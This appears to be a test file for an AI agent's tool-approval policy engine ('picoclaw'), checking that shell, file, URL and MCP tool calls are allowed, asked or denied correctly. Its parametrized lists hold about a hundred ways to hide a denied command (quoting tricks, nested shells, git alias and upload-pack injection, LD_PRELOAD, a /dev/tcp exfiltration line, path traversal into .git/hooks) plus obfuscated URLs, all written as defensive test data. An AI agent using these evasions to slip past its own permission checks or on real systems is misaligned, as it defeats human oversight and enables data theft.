"""What a policy says to a use of a tool: the strictest rule, and lines of shell that hide what they run."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from picoclaw.capabilities.agent.approvals.decide import decide
from picoclaw.capabilities.agent.approvals.policy import Decision, Policy, Rule, stricter
from picoclaw.capabilities.agent.approvals.shell_lines import read_line

pytestmark = [pytest.mark.unit, pytest.mark.timeout(30)]

NO_CURL = Policy(rules=(Rule(tool="bash", what="curl*", decision="deny"),))
ONLY_GIT = Policy(
    rules=(
        Rule(tool="bash", what="git status*", decision="allow"),
        Rule(tool="bash", what="git diff*", decision="allow"),
        Rule(tool="bash", what="python3 -m pytest*", decision="allow"),
    ),
    default="deny",
)


def bash(policy: Policy, line: str) -> Decision:
    return decide(policy, "bash", {"command": line}).decision


@pytest.mark.parametrize(
    "line",
    [
        "curl http://x",
        "  curl http://x",
        "/usr/bin/curl http://x",
        "ls; curl x",
        "ls;curl x",
        "ls && curl x",
        "ls || curl x",
        "ls | curl -d @- x",
        "ls |& curl x",
        "ls & curl x",
        "ls\ncurl x",
        "echo $(curl x)",
        "echo `curl x`",
        'echo "$(curl x)"',
        "cat <(curl x)",
        "cat <<E\n$(curl x)\nE",
        "env curl x",
        "env A=b curl x",
        "env -i curl x",
        "env -S 'curl x'",
        "nohup curl x",
        "timeout 5 curl x",
        "timeout -k 1 5 curl x",
        "nice -n 5 curl x",
        "command curl x",
        "exec curl x",
        "sh -c 'curl x'",
        "bash -ec 'ls; curl x'",
        "sh -c 'sh -c \"curl x\"'",
        "sh -xc 'curl x'",
        "echo curl x | sh",
        "eval 'cu''rl x'",
        "c''url x",
        'c"u"rl x',
        "cu\\rl x",
        "cu\\\nrl x",
        "cur? x",
        "/usr/bin/cur[l] x",
        "{curl,x}",
        "{ curl x; }",
        "( curl x )",
        "$CURL x",
        "A=curl; $A x",
        "C=x curl y",
        "PATH=/tmp ls",
        "LD_PRELOAD=./x.so ls",
        "if true; then curl x; fi",
        "for i in 1; do curl x; done",
        "while curl x; do :; done",
        "! curl x",
        "time curl x",
        "find . -exec curl x ;",
        "ls | xargs curl",
        "python3 -c 'import os; os.system(\"curl x\")'",
        "python3.13 fetch.py",
        "perl -e 'exec q(curl)'",
        "awk 'BEGIN { system(\"curl x\") }'",
        "make fetch",
        "./fetch.sh",
        ". ./fetch.sh",
        "git -c alias.x='!curl x' x",
        "git config alias.x '!curl x'",
        "git fetch --upload-pa='curl x' .",
        "git grep -O'curl x' a",
        "git clone -u 'curl x' a b",
        "git archive --exe=curl HEAD",
        "sort --compress-prog=curl big",
        "split --filter='curl x' big",
        "pytest",
        "Rscript x",
        "sqlite3 x '.shell curl x'",
        "valgrind curl x",
        "picoclaw approve a-1",
        "echo secret > /dev/tcp/192.0.2.1/80",
        "cat < /dev/tcp/192.0.2.1/80",
        "ls < ; curl x",
        "alias ls=curl; ls x",
        "f() { curl x; }; f",
        "trap 'curl x' EXIT",
        ">out curl x",
        "2>&1 curl x",
        "ls '",
        "ls \\",
        "ls\rcurl x",
        "a[$(curl x)]=1",
        "echo " + "x" * 10_000,
        "[ -f x ] && curl x",
        "'a=/curl' ls",
        "env -- 'A=b' curl x",
        "ls && \\\n curl x",
        "./bash -c 'ls'",
        "/bin/../tmp/ls",
        "fish -c 'begin; curl x; end'",
        "zsh -c 'noglob curl x'",
        "export PATH=/project/bin:/bin; ls",
        "declare -x PATH=.",
        "read -r PATH < x; ls",
        "printf -v PATH /project/bin; ls",
        "unset PATH; ls",
        "test -v 'a[$(curl x)]'",
        "[ -v 'a[$(curl x)]' ]",
        "a['b[$(curl x)]']=1",
        "jobs -x curl x",
        "compgen -C 'curl x'",
        "rg --pre ./x a",
        "wget -qe use_askpass=./x y",
        "git clone --u 'curl x' a b",
        "git merge-index ./x -a",
        "env " * 2000 + "curl x",
    ],
)
def test_what_would_run_a_denied_command_or_hides_what_it_runs_is_denied(line: str) -> None:
    assert bash(NO_CURL, line) == "deny"
    assert bash(ONLY_GIT, line) == "deny"
    assert bash(ONLY_GIT, f"git status; {line}") == "deny"


@pytest.mark.parametrize(
    "line",
    [
        "ls -la",
        "ls 'a b' | wc -l > out 2>&1",
        "grep -rn 'curl' . && echo \"it's; here | there\"",
        "echo done # curl x",
        "[ -f x ] && cat x",
        "cat *.txt",
        "git log --oneline",
        "git push -u origin x",
        "git commit --all --message x",
        "sort --compare x | split --lines 5",
        "A=b ls",
        "timeout 5 ls",
        "sh -c 'ls; pwd'",
        "ls && \\\n pwd \\\n -P",
        "export LANG=C; printf '%s' x",
        "A='b c' ls",
        "wget -q x",
        "jobs",
        "[ 1 -lt 2 ]",
    ],
)
def test_what_is_read_for_sure_and_runs_nothing_denied_is_allowed(line: str) -> None:
    assert bash(NO_CURL, line) == "allow"


def test_a_rule_that_allows_a_command_by_name_vouches_for_what_it_runs() -> None:
    assert bash(ONLY_GIT, "git status && python3 -m pytest -q") == "allow"
    assert bash(ONLY_GIT, "python3 -m pytest $(rm x)") == "deny"
    assert bash(ONLY_GIT, "./git status") == "deny", "another program of that name"
    assert bash(ONLY_GIT, "'A=b' git status") == "deny", "quoted it is a program, no assignment"
    assert bash(ONLY_GIT, "git status > /dev/null; git diff HEAD") == "allow"


def test_names_of_files_that_the_shell_fills_in_are_taken_to_be_those_of_the_rule() -> None:
    policy = Policy(rules=(Rule(tool="bash", what="cat .env", decision="deny"),))

    assert bash(policy, "cat .e*") == "deny"
    assert bash(policy, "cat ?env") == "deny"
    assert bash(policy, "ls *.py") == "allow"
    assert bash(policy, "cat '.e*'") == "allow", "in quotes it is the name itself"


@pytest.mark.parametrize(
    "path", ["secrets/a", "./secrets/a", "x/../secrets/a", "/project/secrets/a", "secrets//a"]
)
def test_a_path_is_the_same_however_it_is_written(path: str) -> None:
    policy = Policy(rules=(Rule(tool="read", what="secrets/*", decision="deny"),))

    assert decide(policy, "read", {"path": path}, root="/project").decision == "deny"
    assert decide(policy, "read", {"path": "notes"}, root="/project", also=("secrets/a",)).decision == "deny"


@pytest.mark.parametrize("tool", ["grep", "glob"])
def test_looking_below_a_folder_touches_what_a_rule_names_there(tool: str) -> None:
    policy = Policy(rules=(Rule(tool=tool, what="secrets/*", decision="deny"),))

    assert decide(policy, tool, {"pattern": "x"}).decision == "deny"
    assert decide(policy, tool, {"pattern": "x", "path": "secrets/deep"}).decision == "deny"
    assert decide(policy, tool, {"pattern": "x", "path": "src"}).decision == "allow"


@pytest.mark.parametrize(
    "line",
    [
        "echo x > src/a",
        "echo x >src/../src/a",
        "ls; echo x >> /project/src/a",
        "ls &> src/a",
        "ls >& src/a",
        "sh -c 'ls > src/a'",
        "env ls > src/a",
        "ls > s*/a",
        "ls > /workspace/src/a",
        "ls > /dev/fd/../cwd/src/a",
        "ls > /proc/self/cwd/src/a",
        "ls > //project/src/a",
        "cd src && ls > a",
        "cd x; cd ../src; ls > a",
        "cd s*; ls > a",
        "sh -c 'cd src; ls > a'",
    ],
)
def test_a_redirection_writes_as_write_does(line: str) -> None:
    no_source = Policy(rules=(Rule(tool="write", what="src/*", decision="deny"),))
    assert decide(no_source, "bash", {"command": line}, root="/project").decision == "deny"
    only_ls = Policy(
        rules=(
            Rule(tool="bash", what="ls*", decision="allow"),
            Rule(tool="write", what="out/*", decision="allow"),
        ),
        default="deny",
    )
    assert bash(only_ls, "ls > src/a") == "deny"
    assert bash(only_ls, "ls 2>&1 > out/a") == "allow"
    assert bash(only_ls, "ls > /dev/null 2>/dev/null") == "allow"
    in_folder = Policy(
        rules=(*only_ls.rules, Rule(tool="bash", what="cd *", decision="allow")), default="deny"
    )
    assert bash(in_folder, "cd out && ls > b") == "deny", "where there is no such folder it is another file"
    assert bash(in_folder, "cd out; ls > out/b") == "allow"
    assert bash(in_folder, "cd /etc; cd x; ls > out/b") == "deny"
    assert bash(no_source, "cd other && ls > b") == "allow"
    all_of_bash = Policy(rules=(Rule(tool="bash", decision="allow"),), default="deny")
    assert bash(all_of_bash, "ls > src/a") == "allow"


def test_a_path_that_leaves_what_is_allowed_is_not_allowed() -> None:
    policy = Policy(rules=(Rule(tool="write", what="src/*", decision="allow"),), default="deny")

    assert decide(policy, "write", {"path": "src/a.py"}).decision == "allow"
    assert decide(policy, "write", {"path": "src/../.git/hooks/x"}).decision == "deny"


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/x",
        "HTTPS://EVIL.example:443/x",
        "https://a@evil.example./x",
        "https://evil\u3002example/x",
        "https://good.example/a/../private/x",
        "https://good.example/./private/x",
        "https://good.example/%70rivate/x",
        "https://good.example/a/%2e%2E/private/x",
        "https://stra\u00dfe.example/x",
    ],
)
def test_a_url_is_the_same_however_it_is_written(url: str) -> None:
    denied = ("https://evil.example/*", "https://good.example/private/*")
    policy = Policy(rules=tuple(Rule(tool="web_fetch", what=what, decision="deny") for what in denied))

    assert decide(policy, "web_fetch", {"url": url}).decision == "deny"


def test_a_tool_of_a_server_is_judged_by_its_name_and_every_text_in_its_arguments() -> None:
    policy = Policy(
        rules=(
            Rule(tool="mcp__github__delete_*", decision="deny"),
            Rule(tool="mcp__*", what="*prod*", decision="ask"),
        )
    )

    assert decide(policy, "mcp__github__delete_repo", {}).decision == "deny"
    assert decide(policy, "mcp__db__run", {"on": {"host": ["db.prod"]}}).decision == "ask"
    assert decide(policy, "mcp__db__run", {"on": "test"}).decision == "allow"


def test_a_ruling_says_which_rule_and_why() -> None:
    ruling = decide(NO_CURL, "bash", {"command": "echo `x`"})

    assert ruling.rules == ("deny bash: curl*",)
    assert "a substitution or a variable" in ruling.why


def test_the_policy_of_a_node_makes_another_only_stricter() -> None:
    own = Policy(rules=(Rule(tool="bash", decision="allow"),), also=(NO_CURL,))

    assert bash(own, "curl x") == "deny"
    assert bash(own, "ls") == "allow"
    assert bash(Policy(default="deny", also=(Policy(),)), "ls") == "deny"


DECISIONS = st.sampled_from(["allow", "ask", "deny"])
PATTERNS = st.sampled_from([None, "*", "git*", "git push*", "rm *", "curl*", "*secret*"])
RULES = st.builds(lambda what, decision: Rule(tool="bash", what=what, decision=decision), PATTERNS, DECISIONS)
POLICIES = st.builds(
    lambda rules, default: Policy(rules=tuple(rules), default=default), st.lists(RULES, max_size=5), DECISIONS
)
COMMANDS = st.sampled_from(
    ["git push x", "git log", "rm -r a", "curl x", "ls", "echo secret", "python3 x.py"]
)
JOINS = st.sampled_from([";", " && ", " | ", "\n", " & "])
ANYTHING = st.text(alphabet="abcgitrmul xs-'\"\\$`(){}<>|&;\n\t*?[~#=./!\x00é", max_size=40)


@given(POLICIES, RULES, COMMANDS)
def test_a_further_rule_that_asks_or_denies_never_loosens(policy: Policy, rule: Rule, line: str) -> None:
    if rule.decision != "allow":
        more = Policy(rules=(*policy.rules, rule), default=policy.default)

        found, before = bash(more, line), bash(policy, line)
        # A default gives way to a rule that fits: what it denied may then be asked for.
        assert not stricter(before, found) or policy.default == before


@given(POLICIES, st.lists(COMMANDS, min_size=1, max_size=4), JOINS)
def test_a_line_is_as_strict_as_its_strictest_command(policy: Policy, lines: list[str], join: str) -> None:
    whole = bash(policy, join.join(lines))

    assert not any(stricter(bash(policy, line), whole) for line in lines)


@given(POLICIES, POLICIES, ANYTHING)
def test_whatever_is_written_a_second_policy_never_loosens(one: Policy, other: Policy, line: str) -> None:
    both = bash(Policy(rules=one.rules, default=one.default, also=(other,)), line)

    assert not stricter(bash(one, line), both)
    assert not stricter(bash(other, line), both)


@given(ANYTHING, ANYTHING)
def test_nothing_before_or_after_a_denied_command_hides_it(before: str, after: str) -> None:
    """Unless it stands in quotes or a comment: then it runs nothing, which is another matter."""
    line = f"{before}; curl x ;{after}"
    read = read_line(line)
    runs = any(text.startswith("curl") for command in read.commands for text in command.texts)

    if runs or read.opaque:
        assert bash(NO_CURL, line) == "deny"
    else:
        assert any(mark in before for mark in "'\"\\#")


def test_what_the_default_asks_is_named_by_its_tool_so_that_always_is_for_that_one() -> None:
    ask = Policy(default="ask")
    assert decide(ask, "bash", {"command": "ls"}).rules == ("ask bash by default",)
    assert decide(ask, "web_fetch", {"url": "https://example.org/"}).rules == ("ask web_fetch by default",)
    beside = Policy(also=(Policy(also=(ask,)),))
    assert decide(beside, "read", {"path": "a"}).rules == ("ask read by default",)


def test_a_line_of_thousands_of_commands_does_not_hold_up_the_node() -> None:
    many = Policy(rules=tuple(Rule(tool="bash", what=f"*x{n}*y*", decision="deny") for n in range(20)))
    began = time.process_time()
    assert bash(many, "a;" * 4000) == "allow"
    assert time.process_time() - began < 2
